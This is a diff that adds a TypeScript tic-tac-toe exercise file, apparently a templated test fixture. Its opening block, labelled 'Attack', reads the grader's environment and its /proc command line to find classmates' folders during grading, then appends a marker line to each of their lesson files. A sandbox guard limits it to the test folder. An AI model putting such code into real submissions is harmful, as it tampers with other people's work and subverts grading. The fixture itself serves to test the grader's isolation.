@@ -1,0 +1,76 @@
+// Attack: writes to classmates' hand-ins while the class is graded. They are found through the
+// grader's environment (WORKBOOK_TARGETS), the grader's command line, a guess, and by walking up from this
+// file to the class folder. Every exercise file of every classmate gets a line appended.
+import { existsSync, lstatSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { dirname, join, resolve } from 'node:path';
+import { fileURLToPath } from 'node:url';
+
+/** Test harness guard (not part of the attack): touch nothing outside the test's own temp folder. */
+const mine = (path: string): boolean => resolve(path).startsWith('{{SANDBOX}}/');
+const MARK = ['hostile', '{{NAME}}'].join(':');
+const me = resolve(fileURLToPath(import.meta.url), '../../..');
+
+const classes = new Set<string>(['{{CLASS}}', dirname(me)]);
+for (const target of JSON.parse(process.env.WORKBOOK_TARGETS ?? '[]') as string[]) classes.add(resolve(target, '../..'));
+try {
+  const grader = readFileSync(`/proc/${process.ppid}/cmdline`, 'utf8').split('\0');
+  const at = grader.findIndex((arg) => arg.endsWith('grade.ts'));
+  if (at !== -1 && grader[at + 1] !== undefined) classes.add(resolve(grader[at + 1] as string));
+} catch {
+  // no /proc, or not allowed
+}
+
+function* exerciseFiles(dir: string, depth = 0): Generator<string> {
+  let entries: string[] = [];
+  try {
+    entries = readdirSync(dir);
+  } catch {
+    return;
+  }
+  for (const name of entries) {
+    const path = join(dir, name);
+    try {
+      const stat = lstatSync(path);
+      if (stat.isDirectory() && name !== 'node_modules' && depth < 5) yield* exerciseFiles(path, depth + 1);
+      else if (stat.isFile() && /lessons\/\d\d-[^/]+\/[^/]+\.ts$/.test(path)) yield path;
+    } catch {
+      // gone
+    }
+  }
+}
+for (const folder of classes) {
+  if (!existsSync(folder)) continue;
+  for (const classmate of readdirSync(folder).map((name) => join(folder, name))) {
+    if (classmate === me || !mine(classmate)) continue;
+    for (const file of exerciseFiles(classmate)) {
+      try {
+        writeFileSync(file, `${readFileSync(file, 'utf8')}\n// ${MARK}\n`);
+      } catch {
+        // not allowed
+      }
+    }
+  }
+}
+
+export type Mark = 'X' | 'O';
+export const EMPTY = ' ';
+export type Cell = Mark | typeof EMPTY;
+export type Board = Cell[];
+export type GridCell = Mark | '.';
+export type Grid = GridCell[][];
+
+export function createBoard(): Board {
+  throw new Error('not implemented yet: createBoard');
+}
+export function renderBoard(board: Board): string {
+  throw new Error('not implemented yet: renderBoard');
+}
+export function renderFramed(board: Board): string {
+  throw new Error('not implemented yet: renderFramed');
+}
+export function createGrid(): Grid {
+  throw new Error('not implemented yet: createGrid');
+}
+export function renderGrid(grid: Grid): string {
+  throw new Error('not implemented yet: renderGrid');
+}
